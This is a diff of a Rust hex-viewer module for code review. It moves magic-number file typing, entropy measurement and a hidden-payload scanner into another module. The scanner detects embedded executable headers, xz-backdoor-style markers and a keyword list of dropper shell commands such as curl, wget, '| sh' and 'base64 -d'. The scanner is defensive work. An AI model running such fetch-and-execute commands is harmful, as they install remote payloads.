@@ -1,15 +1,12 @@
-//! Hex views of binary blobs, in the manner of `hexyl`, plus the analyses a
-//! reviewer needs to see what hides in "test data": file type by magic
-//! number, Shannon entropy, and a scan for embedded executables, scripts and
-//! dropper commands (the xz-utils backdoor hid its stages in binary test
-//! files behind markers such as `####Hello####`).
+//! Hex views of binary blobs, in the manner of `hexyl`: rows of hex and
+//! ASCII, old beside new, and the summary lines that show a blob's type,
+//! entropy and payload findings (which `crate::inspect` finds).
 //!
 //! Everything here is a pure function over a byte slice. A blob may be
 //! 1 GiB, so every function takes a *window* (`&[u8]`) and, where offsets
 //! matter, the window's absolute offset in the blob: showing page 10 000
 //! costs the same as showing the first. Callers should start windows on a
-//! multiple of [`BYTES_PER_ROW`] so rows line up from page to page. A whole
-//! blob is scanned in one pass by [`BlobScan`], fed a piece at a time.
+//! multiple of [`BYTES_PER_ROW`] so rows line up from page to page.
 //!
 //! The text of every rendered line is built from hex digits, printable ASCII
 //! and a few drawing glyphs; bytes never reach the terminal raw, so the
@@ -18,8 +15,9 @@
 use std::ops::Range;
 
 use super::sanitize::sanitize_line;
-use super::theme::Color;
+use super::theme::{Color, HexColors, Theme};
 use super::{Span, Style, StyledLine};
+use crate::inspect::{entropy, entropy_blocks, file_type, suspicious, BlobFacts, BlobScan, Finding};
 
 /// Bytes shown per row.
 pub const BYTES_PER_ROW: usize = 16;
@@ -107,24 +105,37 @@ pub struct Palette {
 }
 
 impl Default for Palette {
-    /// hexyl's colours in terms of the 16 terminal colours.
+    /// hexyl's colours in terms of the 16 terminal colours (the default
+    /// theme's hex colours), offsets and borders in bright black.
     fn default() -> Self {
-        let bright_black = Color::Indexed(8);
-        Palette {
-            null: Style::fg(bright_black),
-            printable: Style::fg(Color::Indexed(6)),
-            whitespace: Style::fg(Color::Indexed(2)),
-            other: Style::fg(Color::Indexed(5)),
-            non_ascii: Style::fg(Color::Indexed(3)),
-            offset: Style::fg(bright_black),
-            separator: Style::fg(bright_black),
-            changed: Style { fg: Some(Color::Indexed(9)), bold: true, reverse: true, ..Style::default() },
-            finding: Style { fg: Some(Color::Indexed(13)), bold: true, reverse: true, ..Style::default() },
-        }
+        Palette::from_colors(&HexColors::default(), Color::Indexed(8))
     }
 }
 
 impl Palette {
+    /// A theme's palette: its hex colours; offsets and borders in its dim
+    /// colour.
+    pub fn from_theme(theme: &Theme) -> Palette {
+        Palette::from_colors(&theme.hex, theme.text.dim)
+    }
+
+    /// Changed bytes and findings are also bold and reversed, so they stand
+    /// out without colour too.
+    fn from_colors(hex: &HexColors, dim: Color) -> Palette {
+        let marked = |c: Color| Style { fg: Some(c), bold: true, reverse: true, ..Style::default() };
+        Palette {
+            null: Style::fg(hex.null),
+            printable: Style::fg(hex.printable),
+            whitespace: Style::fg(hex.whitespace),
+            other: Style::fg(hex.other),
+            non_ascii: Style::fg(hex.non_ascii),
+            offset: Style::fg(dim),
+            separator: Style::fg(dim),
+            changed: marked(hex.changed),
+            finding: marked(hex.finding),
+        }
+    }
+
     /// The style of a byte's class.
     pub fn class_style(&self, class: ByteClass) -> Style {
         match class {
@@ -489,196 +500,7 @@ pub fn changed_ranges_at(old: &[u8], new: &[u8], window_offset: u64) -> Vec<Rang
 }
 
 // ---------------------------------------------------------------------------
-// File types
-
-/// A file type recognised by its magic number.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
-pub struct FileType {
-    /// A short stable name: `xz`, `elf`, `macho`, `java-class`, …
-    pub name: &'static str,
-    /// What a reader would call it.
-    pub description: &'static str,
-}
-
-const fn ft(name: &'static str, description: &'static str) -> FileType {
-    FileType { name, description }
-}
-
-/// Names of the executable formats, as [`file_type`] reports them.
-const ELF: &str = "elf";
-const PE: &str = "pe";
-const MZ: &str = "mz";
-const MACHO: &str = "macho";
-const MACHO_FAT: &str = "macho-fat";
-
-fn u16_at(data: &[u8], at: usize, little: bool) -> Option<u16> {
-    let bytes: [u8; 2] = data.get(at..at.checked_add(2)?)?.try_into().ok()?;
-    Some(if little { u16::from_le_bytes(bytes) } else { u16::from_be_bytes(bytes) })
-}
-
-fn u32_at(data: &[u8], at: usize, little: bool) -> Option<u32> {
-    let bytes: [u8; 4] = data.get(at..at.checked_add(4)?)?.try_into().ok()?;
-    Some(if little { u32::from_le_bytes(bytes) } else { u32::from_be_bytes(bytes) })
-}
-
-fn u64_at(data: &[u8], at: usize, little: bool) -> Option<u64> {
-    let bytes: [u8; 8] = data.get(at..at.checked_add(8)?)?.try_into().ok()?;
-    Some(if little { u64::from_le_bytes(bytes) } else { u64::from_be_bytes(bytes) })
-}
-
-fn bytes_at(data: &[u8], at: usize, pattern: &[u8]) -> bool {
-    data.get(at..).is_some_and(|rest| rest.starts_with(pattern))
-}
-
-/// The file at offset `at` of `data` starts with a PE image: `MZ`, then an
-/// `e_lfanew` that points at `PE\0\0`. Returns `e_lfanew`.
-fn pe_header(data: &[u8], at: usize) -> Option<usize> {
-    if !bytes_at(data, at, b"MZ") {
-        return None;
-    }
-    let lfanew = usize::try_from(u32_at(data, at.checked_add(0x3c)?, true)?).ok()?;
-    if lfanew < 0x40 {
-        return None;
-    }
-    bytes_at(data, at.checked_add(lfanew)?, b"PE\0\0").then_some(lfanew)
-}
-
-/// `CAFEBABE` starts both fat Mach-O files and Java classes. A fat file
-/// then has a small architecture count; a class file has its version
-/// (minor, then major ≥ 45), which read as one big-endian word is ≥ 45.
-fn cafebabe_is_fat(data: &[u8], at: usize) -> Option<bool> {
-    let next = u32_at(data, at.checked_add(4)?, false)?;
-    match next {
-        0 => None,
-        1..=44 => Some(true),
-        _ => Some(false),
-    }
-}
-
-/// The type of a blob, from its first bytes (pass at least the first 512
-/// bytes for tar and a typical PE header; less is fine for the rest).
-pub fn file_type(head: &[u8]) -> Option<FileType> {
-    let starts = |magic: &[u8]| head.starts_with(magic);
-    if starts(b"\xfd7zXZ\0") {
-        return Some(ft("xz", "XZ compressed data"));
-    }
-    if starts(b"\x1f\x8b\x08") {
-        return Some(ft("gzip", "gzip compressed data"));
-    }
-    if starts(b"BZh") && head.get(3).is_some_and(|b| (b'1'..=b'9').contains(b)) {
-        return Some(ft("bzip2", "bzip2 compressed data"));
-    }
-    if starts(b"\x28\xb5\x2f\xfd") {
-        return Some(ft("zstd", "Zstandard compressed data"));
-    }
-    if starts(b"PK\x03\x04") || starts(b"PK\x05\x06") {
-        return Some(ft("zip", "Zip archive"));
-    }
-    if starts(b"7z\xbc\xaf\x27\x1c") {
-        return Some(ft("7z", "7-Zip archive"));
-    }
-    if bytes_at(head, 257, b"ustar") && matches!(head.get(262), Some(0 | b' ')) {
-        return Some(ft("tar", "tar archive"));
-    }
-    if starts(b"\x7fELF") {
-        return Some(ft(ELF, "ELF executable, library or object"));
-    }
-    if starts(b"MZ") {
-        return Some(match pe_header(head, 0) {
-            Some(_) => ft(PE, "PE executable (Windows)"),
-            None => ft(MZ, "DOS MZ executable"),
-        });
-    }
-    if starts(b"\xfe\xed\xfa\xce")
-        || starts(b"\xce\xfa\xed\xfe")
-        || starts(b"\xfe\xed\xfa\xcf")
-        || starts(b"\xcf\xfa\xed\xfe")
-    {
-        return Some(ft(MACHO, "Mach-O executable"));
-    }
-    if starts(b"\xca\xfe\xba\xbf") {
-        return Some(ft(MACHO_FAT, "Mach-O universal (fat) binary"));
-    }
-    if starts(b"\xca\xfe\xba\xbe") {
-        return match cafebabe_is_fat(head, 0)? {
-            true => Some(ft(MACHO_FAT, "Mach-O universal (fat) binary")),
-            false => Some(ft("java-class", "Java class file")),
-        };
-    }
-    if starts(b"\x89PNG\r\n\x1a\n") {
-        return Some(ft("png", "PNG image"));
-    }
-    if starts(b"\xff\xd8\xff") {
-        return Some(ft("jpeg", "JPEG image"));
-    }
-    if starts(b"GIF87a") || starts(b"GIF89a") {
-        return Some(ft("gif", "GIF image"));
-    }
-    if starts(b"%PDF-") {
-        return Some(ft("pdf", "PDF document"));
-    }
-    if starts(b"\0asm") {
-        return Some(ft("wasm", "WebAssembly module"));
-    }
-    if starts(b"SQLite format 3\0") {
-        return Some(ft("sqlite", "SQLite 3 database"));
-    }
-    if is_lzma(head) {
-        return Some(ft("lzma", "LZMA (lzma_alone) compressed data"));
-    }
-    None
-}
-
-/// The legacy `.lzma` header has no real magic: properties `5D`, a 32-bit
-/// dictionary size (`00 00 xx xx` for the usual sizes) and a 64-bit
-/// uncompressed size, all ones when unknown. Checked last, and only with
-/// a plausible size.
-fn is_lzma(head: &[u8]) -> bool {
-    if !head.starts_with(b"\x5d\0\0") {
-        return false;
-    }
-    match u64_at(head, 5, true) {
-        Some(size) => size == u64::MAX || size < 1 << 40,
-        None => false,
-    }
-}
-
-// ---------------------------------------------------------------------------
 // Entropy
-
-/// Shannon entropy in bits per byte, `0.0..=8.0`: 0 for constant (or
-/// empty) data, near 8 for compressed or encrypted data.
-pub fn entropy(block: &[u8]) -> f32 {
-    if block.is_empty() {
-        return 0.0;
-    }
-    let mut counts = [0u64; 256];
-    for &b in block {
-        if let Some(c) = counts.get_mut(usize::from(b)) {
-            *c += 1;
-        }
-    }
-    let n = block.len() as f64;
-    let h: f64 = counts
-        .iter()
-        .filter(|&&c| c > 0)
-        .map(|&c| {
-            let p = c as f64 / n;
-            -p * p.log2()
-        })
-        .sum();
-    if h <= 0.0 {
-        0.0
-    } else {
-        h.min(8.0) as f32
-    }
-}
-
-/// The entropy of each `block`-sized piece of the window (the last may be
-/// shorter). A `block` of 0 is taken as 1.
-pub fn entropy_blocks(window: &[u8], block: usize) -> Vec<f32> {
-    window.chunks(block.max(1)).map(entropy).collect()
-}
 
 /// One bar per value, `▁` for 0 up to `█` for 8 (each bar is one bit of
 /// entropy wide; 8 itself is `█`). Values outside 0..=8 are clamped, NaN
@@ -696,771 +518,55 @@ pub fn sparkline(values: &[f32]) -> String {
 }
 
 // ---------------------------------------------------------------------------
-// Payload scan
-
-/// What a [`Finding`] found.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
-pub enum FindingKind {
-    /// `\x7fELF` with a valid class, data and version byte.
-    ElfHeader,
-    /// `MZ` whose `e_lfanew` points at `PE\0\0`.
-    PeHeader,
-    /// A Mach-O or fat Mach-O header with a known CPU type.
-    MachOHeader,
-    /// `#!/` (or `#! /`): the start of a script.
-    Shebang,
-    /// Shell commands typical of droppers (`eval `, `| sh`, `base64 -d`,
-    /// …), merged per line.
-    ShellCommand,
-    /// `####Word####`, the markers the xz-utils backdoor searched its test
-    /// files for.
-    ScriptMarker,
-}
-
-impl FindingKind {
-    /// A short human label.
-    pub fn label(self) -> &'static str {
-        match self {
-            FindingKind::ElfHeader => "ELF header",
-            FindingKind::PeHeader => "PE header",
-            FindingKind::MachOHeader => "Mach-O header",
-            FindingKind::Shebang => "shebang",
-            FindingKind::ShellCommand => "shell command",
-            FindingKind::ScriptMarker => "script marker",
-        }
-    }
-
-    fn is_executable(self) -> bool {
-        matches!(self, FindingKind::ElfHeader | FindingKind::PeHeader | FindingKind::MachOHeader)
-    }
-
-    /// Which kind names a merged finding.
-    fn rank(self) -> u8 {
-        match self {
-            FindingKind::ElfHeader | FindingKind::PeHeader | FindingKind::MachOHeader => 3,
-            FindingKind::Shebang => 2,
-            FindingKind::ScriptMarker => 1,
-            FindingKind::ShellCommand => 0,
-        }
-    }
-}
-
-/// Something in a blob that may be a hidden payload.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Finding {
-    /// Absolute offset in the blob.
-    pub offset: u64,
-    /// Bytes covered (a header's size, a script line, a marker).
-    pub len: u64,
-    pub kind: FindingKind,
-    /// A description, or a sanitized excerpt of the bytes: printable ASCII
-    /// only, other bytes escaped as `\xNN`, `\n`, `\t`, `\r`.
-    pub detail: String,
-}
-
-impl Finding {
-    /// The absolute offsets the finding covers.
-    pub fn range(&self) -> Range<u64> {
-        self.offset..self.offset.saturating_add(self.len)
-    }
-}
+// Payload findings
 
 /// Marks that draw findings in `palette.finding` in [`render_row`].
 pub fn finding_marks<'a>(findings: impl IntoIterator<Item = &'a Finding>, palette: &Palette) -> Vec<Mark> {
     findings.into_iter().map(|f| Mark { range: f.range(), style: palette.finding }).collect()
 }
 
-/// A finding before merging, in window positions.
-struct Raw {
-    start: usize,
-    end: usize,
-    kind: FindingKind,
-    detail: String,
-    keywords: Vec<&'static str>,
-}
-
-impl Raw {
-    fn new(start: usize, end: usize, kind: FindingKind, detail: String) -> Raw {
-        Raw { start, end, kind, detail, keywords: Vec::new() }
-    }
-}
-
-/// Longest excerpt, in bytes of the blob.
-const EXCERPT_MAX: usize = 120;
-/// How far a shell line's excerpt reaches back before the first keyword.
-const EXCERPT_BEFORE: usize = 40;
-/// Shell commands further apart than this on one line are separate findings.
-const SAME_LINE_GAP: usize = 256;
-
-fn is_word_byte(b: u8) -> bool {
-    b.is_ascii_alphanumeric() || b == b'_'
-}
-
-fn is_line_end(b: u8) -> bool {
-    matches!(b, b'\n' | b'\r' | 0)
-}
-
-/// Bytes made safe to show: printable ASCII as is, everything else escaped.
-fn escape_bytes(bytes: &[u8]) -> String {
-    let mut out = String::with_capacity(bytes.len());
-    for &b in bytes {
-        match b {
-            b' '..=b'~' => out.push(char::from(b)),
-            b'\n' => out.push_str("\\n"),
-            b'\r' => out.push_str("\\r"),
-            b'\t' => out.push_str("\\t"),
-            _ => {
-                out.push_str("\\x");
-                out.push(hex_digit(b >> 4));
-                out.push(hex_digit(b));
-            }
-        }
-    }
-    // Already free of control characters; the shared pass keeps it so.
-    sanitize_line(&out)
-}
-
-/// The end of the line that starts at or contains `from`, at most
-/// `max` bytes on.
-fn line_end(window: &[u8], from: usize, max: usize) -> usize {
-    let limit = from.saturating_add(max).min(window.len());
-    window.get(from..limit).and_then(|rest| rest.iter().position(|&b| is_line_end(b))).map_or(limit, |i| from + i)
-}
-
-/// An excerpt of the line around `start..end`, with `…` where cut.
-fn line_excerpt(window: &[u8], start: usize, end: usize) -> String {
-    let floor = start.saturating_sub(EXCERPT_BEFORE);
-    let mut from = start;
-    while from > floor && window.get(from - 1).is_some_and(|&b| !is_line_end(b)) {
-        from -= 1;
-    }
-    let to = line_end(window, end, EXCERPT_MAX.saturating_sub(end.saturating_sub(from)).max(16));
-    let cut_before = from > 0 && window.get(from - 1).is_some_and(|&b| !is_line_end(b));
-    let cut_after = window.get(to).is_some_and(|&b| !is_line_end(b));
-    let mut text = String::new();
-    if cut_before {
-        text.push('…');
-    }
-    text.push_str(&escape_bytes(window.get(from..to).unwrap_or_default()));
-    if cut_after {
-        text.push('…');
-    }
-    text
-}
-
-fn elf_machine(machine: u16) -> Option<&'static str> {
-    Some(match machine {
-        0x03 => "x86",
-        0x08 => "MIPS",
-        0x14 => "PowerPC",
-        0x15 => "PowerPC64",
-        0x16 => "S/390",
-        0x28 => "ARM",
-        0x2b => "SPARC V9",
-        0x3e => "x86-64",
-        0xb7 => "AArch64",
-        0xf3 => "RISC-V",
-        0x102 => "LoongArch",
-        _ => return None,
-    })
-}
-
-fn elf_at(window: &[u8], at: usize) -> Option<Raw> {
-    if !bytes_at(window, at, b"\x7fELF") {
-        return None;
-    }
-    let class = *window.get(at.checked_add(4)?)?;
-    let data = *window.get(at.checked_add(5)?)?;
-    let version = *window.get(at.checked_add(6)?)?;
-    if !matches!(class, 1 | 2) || !matches!(data, 1 | 2) || version != 1 {
-        return None;
-    }
-    let little = data == 1;
-    let mut detail =
-        format!("ELF {}-bit {}", if class == 1 { 32 } else { 64 }, if little { "little-endian" } else { "big-endian" });
-    if let Some(kind) = u16_at(window, at + 16, little) {
-        let kind = match kind {
-            1 => "relocatable",
-            2 => "executable",
-            3 => "shared object",
-            4 => "core dump",
-            _ => "unknown type",
-        };
-        detail.push_str(", ");
-        detail.push_str(kind);
-    }
-    if let Some(machine) = u16_at(window, at + 18, little) {
-        match elf_machine(machine) {
-            Some(name) => detail.push_str(&format!(", {name}")),
-            None => detail.push_str(&format!(", machine {machine:#x}")),
-        }
-    }
-    let size = if class == 1 { 52 } else { 64 };
-    Some(Raw::new(at, at.saturating_add(size).min(window.len()), FindingKind::ElfHeader, detail))
-}
-
-fn pe_at(window: &[u8], at: usize) -> Option<Raw> {
-    let lfanew = pe_header(window, at)?;
-    let pe = at.checked_add(lfanew)?;
-    let machine = match u16_at(window, pe + 4, true) {
-        Some(0x14c) => "x86".to_string(),
-        Some(0x8664) => "x86-64".to_string(),
-        Some(0xaa64) => "ARM64".to_string(),
-        Some(0x1c0 | 0x1c4) => "ARM".to_string(),
-        Some(other) => format!("machine {other:#x}"),
-        None => "machine unknown".to_string(),
-    };
-    let flavour = match u16_at(window, pe + 24, true) {
-        Some(0x10b) => "PE32",
-        Some(0x20b) => "PE32+",
-        _ => "PE",
-    };
-    let dll = u16_at(window, pe + 22, true).is_some_and(|c| c & 0x2000 != 0);
-    let detail =
-        format!("{flavour} {}, {machine}, PE signature at +{lfanew:#x}", if dll { "DLL" } else { "executable" });
-    // The DOS header, stub and COFF header.
-    let end = pe.saturating_add(24).min(window.len());
-    Some(Raw::new(at, end, FindingKind::PeHeader, detail))
-}
-
-fn macho_cpu(cpu: u32) -> Option<&'static str> {
-    Some(match cpu {
-        7 => "x86",
-        0x0100_0007 => "x86-64",
-        12 => "ARM",
-        0x0100_000c => "arm64",
-        0x0200_000c => "arm64_32",
-        18 => "PowerPC",
-        0x0100_0012 => "PowerPC64",
-        _ => return None,
-    })
-}
-
-fn macho_at(window: &[u8], at: usize) -> Option<Raw> {
-    let magic = u32_at(window, at, false)?;
-    let (bits, little) = match magic {
-        0xfeed_face => (32, false),
-        0xfeed_facf => (64, false),
-        0xcefa_edfe => (32, true),
-        0xcffa_edfe => (64, true),
-        0xcafe_babe | 0xcafe_babf => {
-            // Fat: a small architecture count, then a known CPU type.
-            // (A Java class has its version here instead, always >= 45.)
-            let count = u32_at(window, at + 4, false)?;
-            if !(1..=44).contains(&count) {
-                return None;
-            }
-            let cpu = macho_cpu(u32_at(window, at + 8, false)?)?;
-            let entry = if magic == 0xcafe_babf { 32 } else { 20 };
-            let len = 8usize.saturating_add((count as usize).saturating_mul(entry));
-            let detail = format!("Mach-O universal binary, {count} architecture(s), first {cpu}");
-            return Some(Raw::new(at, at.saturating_add(len).min(window.len()), FindingKind::MachOHeader, detail));
-        }
-        _ => return None,
-    };
-    let cpu = macho_cpu(u32_at(window, at + 4, little)?)?;
-    let file_type = match u32_at(window, at + 12, little)? {
-        1 => "object",
-        2 => "executable",
-        6 => "dynamic library",
-        8 => "bundle",
-        t @ 3..=12 => return Some(macho_raw(window, at, bits, little, cpu, &format!("file type {t}"))),
-        _ => return None,
-    };
-    Some(macho_raw(window, at, bits, little, cpu, file_type))
-}
-
-fn macho_raw(window: &[u8], at: usize, bits: usize, little: bool, cpu: &str, file_type: &str) -> Raw {
-    let endian = if little { "little-endian" } else { "big-endian" };
-    let detail = format!("Mach-O {bits}-bit {endian} {file_type}, {cpu}");
-    let size = if bits == 32 { 28 } else { 32 };
-    Raw::new(at, at.saturating_add(size).min(window.len()), FindingKind::MachOHeader, detail)
-}
-
-fn is_path_byte(b: u8) -> bool {
-    b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-' | b'+')
-}
-
-fn is_blank_or_end(b: u8) -> bool {
-    matches!(b, b' ' | b'\t') || is_line_end(b)
-}
-
-/// `#!/path` or `#! /path`: an interpreter path of at least two more path
-/// characters after the `/`, then a blank or the line's end (random bytes
-/// hold `#!/` every 16 MiB; they rarely hold a path after it).
-fn shebang_at(window: &[u8], at: usize) -> Option<Raw> {
-    let path = if bytes_at(window, at, b"#!/") {
-        at + 2
-    } else if bytes_at(window, at, b"#! /") {
-        at + 3
-    } else {
-        return None;
-    };
-    let rest = window.get(path + 1..)?;
-    let len = rest.iter().take(128).take_while(|&&b| is_path_byte(b)).count();
-    if len < 2 || !rest.get(len).is_none_or(|&b| is_blank_or_end(b)) {
-        return None;
-    }
-    let end = line_end(window, at, EXCERPT_MAX);
-    let mut detail = escape_bytes(window.get(at..end).unwrap_or_default());
-    if window.get(end).is_some_and(|&b| !is_line_end(b)) {
-        detail.push('…');
-    }
-    Some(Raw::new(at, end, FindingKind::Shebang, detail))
-}
-
-/// `####Word####`: a run of at least four `#`, a word of 1 to 64 letters,
-/// digits or `_`, and at least four `#` again.
-fn marker_at(window: &[u8], at: usize) -> Option<Raw> {
-    const MIN_HASHES: usize = 4;
-    const MAX_WORD: usize = 64;
-    if at > 0 && window.get(at - 1) == Some(&b'#') {
-        return None; // Not the start of the run.
-    }
-    let rest = window.get(at..)?;
-    let open = rest.iter().take_while(|&&b| b == b'#').count();
-    if open < MIN_HASHES {
-        return None;
-    }
-    let word = rest.get(open..)?.iter().take(MAX_WORD + 1).take_while(|&&b| is_word_byte(b)).count();
-    if word == 0 || word > MAX_WORD {
-        return None;
-    }
-    let close = rest.get(open + word..)?.iter().take_while(|&&b| b == b'#').count();
-    if close < MIN_HASHES {
-        return None;
-    }
-    let end = at + open + word + close;
-    let detail = format!("marker {}", escape_bytes(window.get(at..end).unwrap_or_default()));
-    Some(Raw::new(at, end, FindingKind::ScriptMarker, detail))
-}
-
-/// A dropper's vocabulary. A trailing space also matches a tab; patterns
-/// that start with a letter need a word boundary before them, and command
-/// names (`boundary_after`) one after them.
-struct Keyword {
-    text: &'static [u8],
-    boundary_after: bool,
-}
-
-const KEYWORDS: &[Keyword] = &[
-    Keyword { text: b"eval ", boundary_after: false },
-    Keyword { text: b"exec ", boundary_after: false },
-    Keyword { text: b"/bin/sh", boundary_after: true },
-    Keyword { text: b"/bin/bash", boundary_after: true },
-    Keyword { text: b"curl ", boundary_after: false },
-    Keyword { text: b"wget ", boundary_after: false },
-    Keyword { text: b"base64 -d", boundary_after: false },
-    Keyword { text: b"base64 --decode", boundary_after: false },
-    Keyword { text: b"chmod +x", boundary_after: false },
-    Keyword { text: b"export ", boundary_after: false },
-    Keyword { text: b"head -c", boundary_after: false },
-    Keyword { text: b"tail -c", boundary_after: false },
-    Keyword { text: b"tr \"", boundary_after: false },
-    Keyword { text: b"tr '", boundary_after: false },
-    Keyword { text: b"xz -d", boundary_after: false },
-    Keyword { text: b"xz --decompress", boundary_after: false },
-    Keyword { text: b"sed ", boundary_after: false },
-];
-
-fn boundary_before(window: &[u8], at: usize) -> bool {
-    at == 0 || window.get(at - 1).is_none_or(|&b| !is_word_byte(b))
-}
-
-fn boundary_after(window: &[u8], end: usize) -> bool {
-    window.get(end).is_none_or(|&b| !is_word_byte(b))
-}
-
-fn keyword_name(text: &'static [u8]) -> &'static str {
-    std::str::from_utf8(text).map_or("?", str::trim_end)
-}
-
-fn keywords_at(window: &[u8], at: usize, first: u8, raw: &mut Vec<Raw>) {
-    for keyword in KEYWORDS.iter().filter(|k| k.text.first() == Some(&first)) {
-        let Some(candidate) = window.get(at..at.saturating_add(keyword.text.len())) else {
-            continue;
-        };
-        let matches = candidate.len() == keyword.text.len()
-            && candidate.iter().zip(keyword.text).all(|(&b, &k)| b == k || (k == b' ' && b == b'\t'));
-        if !matches {
-            continue;
-        }
-        if first.is_ascii_alphanumeric() && !boundary_before(window, at) {
-            continue;
-        }
-        let end = at + keyword.text.len();
-        if (keyword.boundary_after && !boundary_after(window, end)) || !in_text(window, at, end) {
-            continue;
-        }
-        let mut r = Raw::new(at, end, FindingKind::ShellCommand, String::new());
-        r.keywords.push(keyword_name(keyword.text));
-        raw.push(r);
-    }
-}
-
-/// `|`, optional blanks, then `sh` or `bash` ending the command (a blank,
-/// `;`, `)`, `&`, `|`, a quote or the line's end follows), in text.
-fn pipe_at(window: &[u8], at: usize) -> Option<Raw> {
-    let rest = window.get(at.checked_add(1)?..)?;
-    let blanks = rest.iter().take(8).take_while(|&&b| b == b' ' || b == b'\t').count();
-    let word = rest.get(blanks..)?;
-    let (name, len) = if word.starts_with(b"sh") {
-        ("| sh", 2)
-    } else if word.starts_with(b"bash") {
-        ("| bash", 4)
-    } else {
-        return None;
-    };
-    let end = at + 1 + blanks + len;
-    if !window.get(end).is_none_or(|&b| is_blank_or_end(b) || matches!(b, b';' | b')' | b'&' | b'|' | b'"' | b'\''))
-        || !in_text(window, at, end)
-    {
-        return None;
-    }
-    let mut r = Raw::new(at, end, FindingKind::ShellCommand, String::new());
-    r.keywords.push(name);
-    Some(r)
-}
-
-fn is_text_byte(b: u8) -> bool {
-    b.is_ascii_graphic() || matches!(b, b' ' | b'\t')
-}
-
-/// Whether a shell keyword at `start..end` sits in text: the byte before
-/// it (if any) is text, and at least 3 in 4 of the up to 16 bytes on each
-/// side, up to the line's ends, are printable ASCII or blanks. Random
-/// bytes hold `|sh` every 16 MiB; they rarely hold it inside text.
-fn in_text(window: &[u8], start: usize, end: usize) -> bool {
-    const CONTEXT: usize = 16;
-    if start > 0 && !window.get(start - 1).is_some_and(|&b| is_text_byte(b) || is_line_end(b)) {
-        return false;
-    }
-    let before = window.get(start.saturating_sub(CONTEXT)..start).unwrap_or_default();
-    let before = before.iter().rev().take_while(|&&b| !is_line_end(b));
-    let after = window.get(end..end.saturating_add(CONTEXT).min(window.len())).unwrap_or_default();
-    let after = after.iter().take_while(|&&b| !is_line_end(b));
-    let (mut text, mut all) = (0usize, 0usize);
-    for &b in before.chain(after) {
-        all += 1;
-        text += usize::from(is_text_byte(b));
-    }
-    text * 4 >= all * 3
-}
-
-/// Whether two shell findings sit on one line, close together.
-fn same_line(window: &[u8], end: usize, start: usize) -> bool {
-    start >= end
-        && start - end <= SAME_LINE_GAP
-        && window.get(end..start).is_some_and(|gap| !gap.iter().any(|&b| is_line_end(b)))
-}
-
-/// Looks for hidden payloads in a window: executable headers (ELF with a
-/// valid class, data and version; PE whose `e_lfanew` reaches `PE\0\0`;
-/// Mach-O and fat Mach-O with a known CPU), `#!/` shebangs, `####Word####`
-/// markers, and shell commands droppers use (`eval `, `exec `, `| sh`,
-/// `| bash`, `/bin/sh`, `/bin/bash`, `curl `, `wget `, `base64 -d`,
-/// `chmod +x`, `export `, `head -c`, `tail -c`, `tr "`, `xz -d`, `sed `),
-/// each at a word boundary (`evaluate` and `exec_prefix` do not count) and
-/// surrounded by text rather than random bytes.
-///
-/// Offsets are absolute (`window_offset` plus the position). Overlapping
-/// script findings are merged (a shebang absorbs its `/bin/sh`), and the
-/// shell commands of one line become one finding whose detail lists them
-/// and shows the line; executable headers are never merged into anything.
-/// Sorted by offset. See [`suspicious`] to drop the file's own header.
-pub fn scan_payloads(window: &[u8], window_offset: u64) -> Vec<Finding> {
-    let mut raw: Vec<Raw> = Vec::new();
-    let mut at = 0;
-    while let Some(found_at) = next_candidate(window, at) {
-        at = found_at;
-        let Some(&b) = window.get(at) else { break };
-        let found = match b {
-            0x7f => elf_at(window, at),
-            b'M' => pe_at(window, at),
-            0xfe | 0xce | 0xcf | 0xca => macho_at(window, at),
-            b'#' => shebang_at(window, at).or_else(|| marker_at(window, at)),
-            b'|' => pipe_at(window, at),
-            _ => None,
-        };
-        raw.extend(found);
-        if b.is_ascii_lowercase() || b == b'/' {
-            keywords_at(window, at, b, &mut raw);
-        }
-        at += 1;
-    }
-    raw.sort_by_key(|r| (r.start, std::cmp::Reverse(r.end)));
-    merge(raw, window).into_iter().map(|r| finding(r, window, window_offset)).collect()
-}
-
-/// The next position from `from` on that may start a finding: most bytes
-/// start nothing, and a tight loop of table look-ups passes them by.
-#[inline(never)]
-fn next_candidate(window: &[u8], from: usize) -> Option<usize> {
-    let rest = window.get(from..)?;
-    rest.iter().position(|&b| CAN_START[usize::from(b)]).map(|i| from + i)
-}
-
-/// The bytes [`scan_payloads`] looks at more closely: the first bytes of
-/// headers, `#`, `|`, and the first bytes of [`KEYWORDS`].
-static CAN_START: [bool; 256] = can_start();
-
-const fn can_start() -> [bool; 256] {
-    let mut table = [false; 256];
-    let heads = [0x7f, b'M', 0xfe, 0xce, 0xcf, 0xca, b'#', b'|'];
-    let mut i = 0;
-    while i < heads.len() {
-        table[heads[i] as usize] = true;
-        i += 1;
-    }
-    let mut k = 0;
-    while k < KEYWORDS.len() {
-        table[KEYWORDS[k].text[0] as usize] = true;
-        k += 1;
-    }
-    table
-}
-
-fn merge(raw: Vec<Raw>, window: &[u8]) -> Vec<Raw> {
-    let mut out: Vec<Raw> = Vec::with_capacity(raw.len());
-    // The last script (non-executable) finding in `out`, which later
-    // script findings may merge into.
-    let mut open: Option<usize> = None;
-    for r in raw {
-        if r.kind.is_executable() {
-            out.push(r);
-            continue;
-        }
-        if let Some(cur) = open.and_then(|i| out.get_mut(i)) {
-            let overlaps = r.start < cur.end;
-            let shell_line = cur.kind == FindingKind::ShellCommand
-                && r.kind == FindingKind::ShellCommand
-                && same_line(window, cur.end, r.start);
-            if overlaps || shell_line {
-                cur.end = cur.end.max(r.end);
-                if r.kind.rank() > cur.kind.rank() {
-                    cur.kind = r.kind;
-                    cur.detail = r.detail;
-                }
-                for k in r.keywords {
-                    if !cur.keywords.contains(&k) {
-                        cur.keywords.push(k);
-                    }
-                }
-                continue;
-            }
-        }
-        open = Some(out.len());
-        out.push(r);
-    }
-    out
-}
-
-fn finding(r: Raw, window: &[u8], window_offset: u64) -> Finding {
-    let detail = match r.kind {
-        FindingKind::ShellCommand => {
-            format!("{}: {}", r.keywords.join(", "), line_excerpt(window, r.start, r.end))
-        }
-        _ => r.detail,
-    };
-    Finding {
-        offset: window_offset.saturating_add(r.start as u64),
-        len: r.end.saturating_sub(r.start) as u64,
-        kind: r.kind,
-        detail,
-    }
-}
-
-/// The findings worth a reviewer's attention: all of them except the
-/// executable header at offset 0 of a file that *is* that executable (an
-/// ELF file starts with an ELF header; that is no payload).
-pub fn suspicious<'a>(findings: &'a [Finding], own_type: Option<&FileType>) -> Vec<&'a Finding> {
